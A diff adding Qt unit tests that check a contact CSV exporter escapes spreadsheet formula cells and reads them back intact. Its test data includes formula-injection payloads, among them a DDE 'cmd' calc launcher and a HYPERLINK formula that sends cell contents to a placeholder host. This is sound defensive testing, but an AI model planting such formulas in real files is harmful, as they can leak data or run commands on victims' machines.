@@ -13,6 +13,8 @@ private slots:
     void read_files();
     void read_malformed_data();
     void read_malformed();
+    void formulaCells_markedAndReadBack_data();
+    void formulaCells_markedAndReadBack();
 };
 
 void TestContactCsv::read_files_data()
@@ -78,6 +80,47 @@ void TestContactCsv::read_malformed()
     QVERIFY(!ContactCsv::read(bytes, &contacts, &error));
     QCOMPARE(error.line, line);
     QVERIFY(contacts.isEmpty());
+}
+
+void TestContactCsv::formulaCells_markedAndReadBack_data()
+{
+    QTest::addColumn<QString>("value"); // the e-mail field
+    QTest::addColumn<QString>("cell");  // as the file carries it between its commas
+    QTest::newRow("arithmetic") << u"=2*3"_s << u"'=2*3"_s;
+    QTest::newRow("link built from other cells") << u"=HYPERLINK(\"http://x.invalid/\"&A1,\"klik\")"_s
+                                                 << u"\"'=HYPERLINK(\"\"http://x.invalid/\"\"&A1,\"\"klik\"\")\""_s;
+    QTest::newRow("at sign") << u"@SUM(A1)"_s << u"'@SUM(A1)"_s;
+    QTest::newRow("plus before a command") << u"+cmd|' /C calc'!A0"_s << u"'+cmd|' /C calc'!A0"_s;
+    QTest::newRow("minus before a sum") << u"-1+1"_s << u"'-1+1"_s;
+    QTest::newRow("tab first") << u"\t=1"_s << u"'\t=1"_s;
+    QTest::newRow("CR first") << u"\r=1"_s << u"\"'\r=1\""_s;
+    QTest::newRow("telephone number") << u"+48 (22) 555-12-34"_s << u"+48 (22) 555-12-34"_s;
+    QTest::newRow("negative number") << u"-12.5"_s << u"-12.5"_s;
+    QTest::newRow("hyphen alone") << u"-"_s << u"-"_s;
+    QTest::newRow("plain address") << u"ala@example.pl"_s << u"ala@example.pl"_s;
+    QTest::newRow("apostrophe of the user's own") << u"'cytat"_s << u"'cytat"_s;
+    QTest::newRow("apostrophe before a formula") << u"'=1"_s << u"''=1"_s;
+}
+
+void TestContactCsv::formulaCells_markedAndReadBack()
+{
+    QFETCH(QString, value);
+    QFETCH(QString, cell);
+    ExchangeContact item;
+    item.contact.Nazwa = u"Kowal Jan"_s;
+    item.contact.Email = value;
+    item.notes = value;
+    QByteArray out;
+    QVERIFY(ContactCsv::write({item}, &out));
+    const QString text = QString::fromUtf8(out);
+    QVERIFY2(text.contains(u',' + cell + u','), qPrintable(text));
+    QVERIFY2(text.endsWith(u',' + cell + u"\r\n"_s), qPrintable(text)); // the notes, last
+    QList<ExchangeContact> back;
+    ExchangeError error;
+    QVERIFY2(ContactCsv::read(out, &back, &error), qPrintable(error.text()));
+    QCOMPARE(back.size(), 1);
+    QCOMPARE(back[0].contact.Email, value);
+    QCOMPARE(back[0].notes, value);
 }
 
 QTEST_GUILESS_MAIN(TestContactCsv)
